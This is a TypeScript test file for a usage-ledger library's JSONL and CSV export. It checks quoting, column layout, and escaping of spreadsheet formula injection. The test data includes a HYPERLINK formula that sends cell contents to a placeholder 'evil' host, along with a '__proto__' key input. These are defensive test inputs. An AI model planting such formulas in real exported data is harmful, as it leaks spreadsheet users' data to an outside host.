import { eventsToCsv, eventsToJsonl, memoryLedger } from 'tollkeeper';
import { usageEvent } from 'tollkeeper/testing';
import { expect, it } from 'vitest';

async function text(chunks: AsyncIterable<string>): Promise<string> {
  let all = '';
  for await (const chunk of chunks) all += chunk;
  return all;
}

async function ledgerOf(...events: ReturnType<typeof usageEvent>[]) {
  const ledger = memoryLedger();
  await ledger.write(events, new AbortController().signal);
  return ledger;
}

it('exports events as JSON lines that read back as they were', async () => {
  const events = [usageEvent({ seq: 1, dimensions: { model: 'a\n"b"' } }), usageEvent({ seq: 2 })];
  const ledger = await ledgerOf(...events);
  const lines = (await text(eventsToJsonl(ledger.events({})))).split('\n');
  expect(lines.pop()).toBe('');
  expect(lines.map((line) => JSON.parse(line))).toEqual(events);
});

it('exports events as CSV with quoted cells and a column for each quantity and dimension', async () => {
  const ledger = await ledgerOf(
    usageEvent({
      seq: 1,
      tenant: 'Acme, "Inc"',
      resource: { type: 'repo', id: 'a\r\nb' },
      quantities: { requests: { value: 1, basis: 'measured' }, tokens: { value: 512, basis: 'reported' } },
      dimensions: { model: 'm' },
    }),
    usageEvent({ seq: 2, tenant: undefined, dimensions: JSON.parse('{"__proto__":"x"}') }),
  );
  const csv = await text(
    eventsToCsv(ledger.events({}), {
      quantities: ['requests', 'tokens', 'toString'],
      dimensions: ['model', '__proto__'],
    }),
  );
  expect(csv).toBe(
    'id,source,seq,type,time,issuer,authId,tenant,clientId,tokenId,plan,subject.kind,subject.id,resource.type,resource.id,' +
      'requestId,method,route,status,outcome,billable,durationMs,corrects,reason,' +
      'quantities.requests,quantities.tokens,quantities.toString,dimensions.model,dimensions.__proto__\r\n' +
      'e1-test.1,test/1,1,call,2026-03-01T10:00:00.000Z,iss,k1,"Acme, ""Inc""",,,,user,u,repo,"a\r\nb",,,,,complete,true,,,,1,512,,m,\r\n' +
      'e2-test.1,test/1,2,call,2026-03-01T10:00:00.000Z,iss,k1,,,,,user,u,,,,,,,complete,true,,,,1,,,,x\r\n',
  );
  const plain = (await text(eventsToCsv(ledger.events({})))).split('\r\n');
  expect(plain[0]).toMatch(/,quantities\.requests$/);
});

it('lets no text that a caller chose be a formula of a spreadsheet', async () => {
  const formulas = ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '＝1', '=HYPERLINK("http://evil/?"&A1,"x")'];
  const ledger = await ledgerOf(
    ...formulas.map((text, index) =>
      usageEvent({
        seq: index + 1,
        tenant: text,
        dimensions: { note: text, delta: -1 },
        quantities: { tokens: { value: -5, basis: 'reported' } },
      }),
    ),
  );
  const columns = { quantities: ['tokens'], dimensions: ['note', 'delta'] };
  const lines = (await text(eventsToCsv(ledger.events({}), columns))).split('\r\n').slice(1, -1);
  expect(lines.length).toBe(formulas.length);
  for (const [index, line] of lines.entries()) {
    const formula = formulas[index] as string;
    const escaped = /[",\r]/.test(formula) ? `"'${formula.replaceAll('"', '""')}"` : `'${formula}`;
    expect(line).toContain(`,k1,${escaped},`);
    // Numbers stay numbers.
    expect(line.endsWith(`,-5,${escaped},-1`)).toBe(true);
  }
  const kept = await text(eventsToCsv(ledger.events({}), { ...columns, formulas: 'dangerouslyKeep' }));
  expect(kept.split('\r\n')[1]).toContain(',k1,=1+1,');
});

it('refuses CSV options that it does not know', async () => {
  const bad = { formula: 'dangerouslyKeep', quantities: 'tokens', formulas: 'keep' } as never;
  await expect(text(eventsToCsv(memoryLedger().events({}), bad))).rejects.toThrow(
    /^eventsToCsv: unknown option "formula" \(did you mean "formulas"\?\); quantities must be an array of names; formulas must be/,
  );
});
